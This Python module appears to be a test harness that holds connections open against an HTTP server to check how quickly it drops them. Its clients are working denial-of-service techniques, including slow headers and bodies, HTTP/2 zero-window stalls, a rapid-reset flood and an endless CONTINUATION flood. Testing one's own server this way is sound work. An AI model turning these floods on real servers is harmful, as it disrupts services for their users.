"""Clients that hold on to a connection: one coroutine each, which ends when the server has let go of it."""

import asyncio
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW = 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def get(path):
    """A request's headers in HPACK, from the static table and literals."""
    text = path.encode()
    return b"\x82\x86\x04" + bytes([len(text)]) + text + b"\x01\x01x"


async def until_cut(reader):
    """Reads on to the end."""
    try:
        while await reader.read(65536):
            pass
    except OSError:
        pass


async def send(writer, data):
    if writer.transport.is_closing():
        raise ConnectionResetError
    writer.write(data)
    await writer.drain()


async def trickle(writer, data, pause):
    for byte in data:
        await send(writer, bytes([byte]))
        await asyncio.sleep(pause)


async def silent(reader, writer, key):
    await until_cut(reader)


async def slow_header(reader, writer, key):
    endless = b"GET /health HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"x" * 1000
    await _both(until_cut(reader), trickle(writer, endless, 0.5))


async def slow_body(reader, writer, key):
    head = f"POST /v1/checkouts HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {key}\r\nContent-Length: 1000\r\n\r\n"
    writer.write(head.encode())
    await _both(until_cut(reader), trickle(writer, b"{" + b" " * 999, 0.5))


async def slow_chunks(reader, writer, key):
    head = f"POST /v1/checkouts HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {key}\r\nTransfer-Encoding: chunked\r\n\r\n"
    writer.write(head.encode())
    await _both(until_cut(reader), trickle(writer, b"1\r\n \r\n" * 1000, 0.5))


async def never_reads(reader, writer, key):
    """Ten long answers, of which nothing is taken. Whether it was cut shows when it writes again."""
    reader._transport.pause_reading()
    writer.write(b"GET /openapi.json HTTP/1.1\r\nHost: x\r\n\r\n" * 10)
    await _until_broken(writer, b"\r\n")


async def zero_window(reader, writer, key):
    """HTTP/2: the answer may never be sent."""
    window = struct.pack(">HI", INITIAL_WINDOW, 0)
    writer.write(PREFACE + frame(SETTINGS, 0, 0, window) + frame(HEADERS, END_STREAM | END_HEADERS, 1, get("/openapi.json")))
    await until_cut(reader)


async def tiny_window(reader, writer, key):
    """HTTP/2: one byte of the answer may be sent, and pings say all the while that somebody is there."""
    window = struct.pack(">HI", INITIAL_WINDOW, 1)
    writer.write(PREFACE + frame(SETTINGS, 0, 0, window) + frame(HEADERS, END_STREAM | END_HEADERS, 1, get("/openapi.json")))

    async def pings():
        while True:
            await send(writer, frame(PING, 0, 0, b"somebody"))
            await asyncio.sleep(1)

    await _both(until_cut(reader), pings())


async def rapid_reset(reader, writer, key):
    """HTTP/2: requests that are taken back at once, without an end."""
    writer.write(PREFACE + frame(SETTINGS, 0, 0))
    stream = 1

    async def flood():
        nonlocal stream
        while stream < 200_000:
            wave = b""
            for _ in range(100):
                wave += frame(HEADERS, END_STREAM | END_HEADERS, stream, get("/health"))
                wave += frame(RESET, 0, stream, struct.pack(">I", 8))
                stream += 2
            await send(writer, wave)
            await asyncio.sleep(0.01)

    await _both(until_cut(reader), flood())


async def endless_headers(reader, writer, key):
    """HTTP/2: headers whose continuations never end."""
    writer.write(PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_STREAM, 1, get("/health")))
    more = frame(CONTINUATION, 0, 1, b"\x00\x05x-abc\x7f" + b"\x81\x7f" + b"y" * 256)

    async def flood():
        while True:
            await send(writer, more * 50)
            await asyncio.sleep(0.01)

    await _both(until_cut(reader), flood())


async def _until_broken(writer, data):
    try:
        while True:
            await send(writer, data)
            await asyncio.sleep(0.5)
    except OSError:
        pass


async def _both(reading, writing):
    """Until the server has hung up, whoever notices it."""
    tasks = [asyncio.ensure_future(reading), asyncio.ensure_future(writing)]
    await asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED)
    for task in tasks:
        task.cancel()
    for outcome in await asyncio.gather(*tasks, return_exceptions=True):
        if isinstance(outcome, Exception) and not isinstance(outcome, OSError):
            raise outcome


async def pipelined(reader, writer, key):
    """500 requests in one go are no attack: all are answered, in order."""
    count = 500
    writer.write(b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n" * (count - 1))
    writer.write(b"GET /health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
    read = b""
    while more := await reader.read(65536):
        read += more
    assert read.count(b"HTTP/1.1 200") == count, read.count(b"HTTP/1.1 200")


async def attack(place, kind, key, most):
    """Seconds until the server let go; None: it has not, by then."""
    reader, writer = await asyncio.open_connection(*place)
    start = time.monotonic()
    try:
        await asyncio.wait_for(kind(reader, writer, key), most)
        return time.monotonic() - start
    except asyncio.TimeoutError:
        return None
    finally:
        writer.transport.abort()
